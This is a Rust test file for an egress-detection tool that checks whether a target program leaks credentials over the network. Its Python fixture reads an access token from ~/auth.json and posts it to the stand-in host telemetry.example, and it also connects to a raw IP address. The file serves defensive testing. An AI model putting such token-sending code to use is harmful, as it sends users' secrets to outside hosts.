//! A program that tries to reach a host which is not ours: what it asked for is named, and what it would have sent.
#![cfg(target_os = "linux")]
#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

mod machine;

use std::path::Path;

use serde_json::Value;

/// Signs nobody in; sends its access token where it does not belong, and knocks at a door by address.
const PROGRAM: &str = r#"
import json, os, socket, urllib.request
token = json.load(open(os.path.expanduser("~/auth.json")))["access"]
request = urllib.request.Request(
    "https://telemetry.example/v1/batch", b"{}", {"Authorization": "Bearer " + token}
)
try:
    urllib.request.urlopen(request, timeout=5)
except urllib.error.HTTPError as error:
    print(error.code)
try:
    socket.create_connection(("203.0.113.7", 8443), timeout=1)
except OSError:
    pass
"#;

/// What came out of a run by one of the ways in.
struct Seen {
    status: i32,
    shown: String,
    because: String,
}

fn play(network: &str) -> Seen {
    let folder = tempfile::tempdir().unwrap();
    let desk = folder.path();
    write(desk, "program.py", PROGRAM);
    write(
        desk,
        "program.toml",
        r#"
name = "telltale"
title = "Telltale"
version = ["echo", "telltale 1.0"]
speaks = ["chatgpt", "ask", "store"]
network = ["namespace", "proxy"]
[files."{work}/program.py"]
from = "program.py"
[ask]
run = ["python3", "program.py"]
tty = "none"
answer = "stdout"
[store]
path = "{home}/auth.json"
access = "/access"
refresh = "/refresh"
"#,
    );
    write(
        desk,
        "suite/scenarios/mine/tells.yaml",
        "case: 99.1.1\ntitle: Tells\nlevel: must\nneeds: [chatgpt, ask, store]\nbecause: Because.\nsources: [me]\ncredentials: { access: live }\nsteps:\n  - ask: Hello.\nchecks:\n  was-refused: { answer: '404' }\n",
    );
    let output = machine::loginproof_at(desk, std::time::Duration::from_secs(90))
        .args(["run", "--target", "./program.toml", "--suite", "suite"])
        .args(["--network", network, "--out", "out"])
        .output()
        .unwrap();
    let shown = String::from_utf8_lossy(&output.stdout).into_owned();
    let run = std::fs::read(desk.join("out/run.json")).unwrap_or_default();
    let run: Value = serde_json::from_slice(&run)
        .unwrap_or_else(|_| panic!("{shown}{}", String::from_utf8_lossy(&output.stderr)));
    let results = run["results"].as_array().unwrap();
    let because = |check: &str| {
        let entry = results.iter().find(|entry| entry["check"] == check);
        entry.unwrap()["because"].as_str().unwrap().to_owned()
    };
    assert_eq!(run["targets"][0]["network"], network);
    let verdicts: Vec<_> = results
        .iter()
        .map(|entry| format!("{} {}", entry["check"], entry["verdict"]))
        .collect();
    assert!(
        verdicts.contains(&"\"was-refused\" \"pass\"".to_owned()),
        "{shown}"
    );
    assert!(
        verdicts.contains(&"\"no-egress\" \"fail\"".to_owned()),
        "{shown}"
    );
    Seen {
        status: output.status.code().unwrap(),
        because: because("no-egress"),
        shown,
    }
}

fn write(desk: &Path, name: &str, text: &str) {
    let path = desk.join(name);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

#[test]
fn through_the_proxy_the_request_is_told_with_its_secret() {
    let seen = play("proxy");
    assert_eq!(seen.status, 5, "{}", seen.shown);
    assert_eq!(
        seen.because,
        "tried to reach telemetry.example (with access token)"
    );
    for told in [
        "connection to telemetry.example:443",
        "POST /v1/batch with <access token …",
        "access token sent to POST telemetry.example/v1/batch",
    ] {
        assert!(seen.shown.contains(told), "{told}: {}", seen.shown);
    }
}

#[test]
fn in_a_namespace_every_attempt_is_told_with_its_process() {
    if !machine::gives_namespaces() {
        return;
    }
    let seen = play("namespace");
    assert_eq!(seen.status, 5, "{}", seen.shown);
    assert_eq!(
        seen.because,
        "tried to reach 203.0.113.7, telemetry.example (with access token)"
    );
    for told in [
        "looked up",
        "SNI telemetry.example",
        "POST /v1/batch with <access token …",
        "by python3",
        "connection to 203.0.113.7:8443",
    ] {
        assert!(seen.shown.contains(told), "{told}: {}", seen.shown);
    }
}
